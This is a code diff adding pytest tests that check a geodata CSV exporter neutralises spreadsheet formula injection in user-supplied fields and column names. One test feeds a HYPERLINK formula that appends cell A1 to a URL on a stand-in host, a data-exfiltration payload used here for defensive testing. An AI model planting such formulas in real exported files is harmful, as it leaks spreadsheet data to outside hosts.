@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import csv
 import json
 import re
 import stat
@@ -83,6 +84,30 @@ def test_csv(tmp_path):
     assert table["time"].tolist() == TIMES
     assert table["category"].tolist() == [PLACES.category[place] or "" for *_, place in ROWS]
     assert table["longitude"].tolist() == [PLACES.longitude[place] for *_, place in ROWS]
+
+
+@pytest.mark.parametrize("begin", ["=", "+", "-", "@", "\t", "\r", "\n", "\uff1d"])
+def test_no_text_of_a_csv_is_run_by_a_spreadsheet(tmp_path, begin):
+    """Ids and categories come from others: whoever opens the file would run what they wrote."""
+    layer = trace_layer(by_hand())
+    text = f'{begin}HYPERLINK("http://a.example/?"&A1,"x")'
+    rows = layer.rows.assign(user=text, place="a=1", category=["", None, text, "b", "c", "d", "e"])
+    rows["kind"] = pd.Categorical(rows["user"])
+    with written(tmp_path, "csv", Layer(rows, {}, layer.trace_of_row, 60)).open(newline="") as file:
+        table = list(csv.DictReader(file))
+    assert {row[name] for row in table for name in ("user", "kind")} == {f"'{text}"}
+    assert {row["place"] for row in table} == {"a=1"}
+    assert [row["category"] for row in table] == ["", "", f"'{text}", "b", "c", "d", "e"]
+    # Numbers are no texts.
+    assert [float(row["latitude"]) for row in table] == [PLACES.latitude[place] for *_, place in ROWS]
+    assert min(float(row["latitude"]) for row in table) < 0
+
+
+def test_names_of_columns_are_not_run_either(tmp_path):
+    layer = population_layer({"=1+1": by_hand()})
+    path = tmp_path / "made.csv"
+    write_layer(layer, path)
+    assert path.read_text(encoding="utf-8").splitlines()[0].endswith("'=1+1_events,'=1+1_share")
 
 
 def test_geoparquet_is_what_its_specification_says(tmp_path):
